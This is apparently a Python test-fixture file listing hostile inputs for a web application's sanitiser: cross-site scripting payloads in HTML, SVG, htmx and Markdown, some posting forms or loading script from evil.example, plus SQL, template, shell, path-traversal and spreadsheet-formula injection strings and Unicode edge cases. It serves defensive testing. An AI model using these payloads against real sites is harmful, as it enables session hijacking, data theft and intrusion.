"""Texts that people should not have to fear: markup that would run, what databases choke on."""

# ruff: noqa: E501 - a payload is not broken over lines

SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "&#106;avascript:alert(1)", "javascript&colon;alert(1)", "\x01javascript:alert(1)",
    " javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=", "file:///etc/passwd", "blob:x", "view-source:x",
    "jav&#x0A;ascript:alert(1)", "javascript://%0aalert(1)", "%6aavascript:alert(1)",
    "filesystem:http://x", "//evil.example/x", "feed:javascript:alert(1)",
)  # fmt: skip
HANDLERS = ("onload", "onerror", "onclick", "onfocus autofocus", "onmouseover", "onpointerenter",
            "ontoggle", "onanimationstart", "onbegin")  # fmt: skip
ELEMENTS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example></SCRIPT>", "<scr<script>ipt>alert(1)",
    "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<base href=//evil.example/>", "<link rel=stylesheet href=//e>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<style>@import'//e'</style>",
    "<form action=javascript:alert(1)><button>go</button></form>", "<isindex action=javascript:x>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>", "<body onload=alert(1)>", "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "<x-hostile onclick=alert(1)>", "<p style=background:url(javascript:alert(1))>",
    "<div style='position:fixed;inset:0'>over all</div>", "<template><script>x</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<!--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>", "'><script>alert(1)</script>", "\"><script>alert(1)</script>",
    "`><script>alert(1)</script>", "\" onfocus=alert(1) autofocus x=\"", "' onfocus=alert(1) x='",
    "<a href=x data-hx-get=/accounts/logout/ data-hx-trigger=load>x</a>",
    "<div hx-get=/accounts/logout/ hx-trigger=load></div>",
    "<div data-hx-on:load=alert(1) data-hx-trigger=load></div>",
    "<div hx-vals='js:{x:alert(1)}' hx-get=/ hx-trigger=load></div>",
    "<form id=answer action=//evil.example><input name=csrfmiddlewaretoken></form>",
    "<input name=base_version value=0>", "<button form=answer formaction=//evil.example>x</button>",
    "<slot name=x onslotchange=alert(1)>", "<dialog open id=confirm>x</dialog>",
    "<table background=javascript:alert(1)>", "<svg><use href='data:image/svg+xml,<svg/>#x'/></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><set attributeName=href to=javascript:x>",
)  # fmt: skip
MARKDOWN = (
    "![x](https://evil.example/track.png)", "![x](javascript:alert(1))", "![x][y]\n\n[y]: javascript:x",
    "[x](javascript:alert(1) 'title')", "[x]: javascript:alert(1)\n\n[x]", "<javascript:alert(1)>",
    "[x](https://a.example 'title\" onclick=alert(1) x=\"')", "[<img src=x onerror=alert(1)>](/x)",
    "`<script>alert(1)</script>`", "```html\n<script>alert(1)</script>\n```", "```<script>\nx\n```",
    "    <script>alert(1)</script>", "> <script>alert(1)</script>", "- <img src=x onerror=alert(1)>",
    "# <svg/onload=alert(1)>", "[x](<javascript:alert(1)>)", "[x](java\\script:alert(1))",
    "[a](https://x.example/\"onmouseover=alert(1)//)", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))", "<https://x.example/<script>alert(1)</script>>",
    "[x](https://x.example){onclick=alert(1)}", "**<b onclick=alert(1)>x</b>**", "[[x](y)](javascript:z)",
    ("> " * 60) + "deep", ("*" * 2000) + "x", ("[" * 2000) + "x", "`" * 1999,
)  # fmt: skip
MARKUP = (
    *ELEMENTS,
    *MARKDOWN,
    *(f"[x]({scheme})" for scheme in SCHEMES),
    *(f"<a href='{scheme}'>x</a>" for scheme in SCHEMES),
    *(f"<{element} {handler}=alert(1)>" for handler in HANDLERS for element in ("b", "img src=x")),
)

NAUGHTY = (
    "\0", "a\0b", "\x01", "\x08\x0b\x0c", "\x1b[31m", "\x7f", "\x80\x9f", "\u0085", "\u2028", "\u2029",
    "\ufeff", "\ufffe", "\uffff", "\ufdd0", "\U0001ffff", "\U0010ffff", "\u0378", "\U000e0001",
    "\u202eevil", "\u2066a\u2069", "\u200b\u200c\u200d", "\u00ad", "\u180e", "\u115f\u1160\u3164",
    "\ue000", "\uf8ff", "e\u0301", "\u1112\u1161\u11ab", "\u212b", "\u0344", "\u0958", "\ufb2c",
    "ﷺ", "𝕋𝕙𝕖 𝕢𝕦𝕚𝕔𝕜", "👩🏽‍🚀🏳️‍🌈", "🇰🇷🇩🇪", "表ポあA鷗ŒéＢ逍Üßªąñ丂㐀𠀀", "ثم نفس سقطت", "Z̮̞̠͙͔̕ͅ",
    "a" + "\u0300" * 50, "İıſK", "ǅ ǆ ﬁ ﬀ", "Ω≈ç√∫˜µ≤≥÷", "٣٫٥", "½", "①", "Ⅷ",
    "%s %(x)s %n %99999d", "{0} {x} {x.__class__}", "{{ 7*7 }}", "{% debug %}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "' OR 1=1 --", "'; DROP TABLE reviews_workload; --", "\" OR \"\"=\"", "1/0",
    "../../etc/passwd", "..\\..\\x", "/dev/null", "CON", "nul.txt", "~", "-rf", "--help",
    "=1+1", "@SUM(1)", "+1", "-1", "\t=cmd|x", "NaN", "Infinity", "-0", "1e309", "9" * 400, "0x7f",
    "null", "None", "undefined", "true", "[]", "{}", "\\", "\\u0000", "&#0;", "&amp;", "&notanentity;",
    "\r\n", "a\r\nb\rc\nd", "\t", "   ", "a   b", "$HOME `id` $(id)", "a;b|c&d", ".", "..", "a" * 255,
    "a" * 256, "a" * 2084, "a" * 2085, "é" * 3000, "\u1112\u1161\u11ab" * 800, "😀" * 2100,
)  # fmt: skip
LONGEST = "a" * 1_000_000
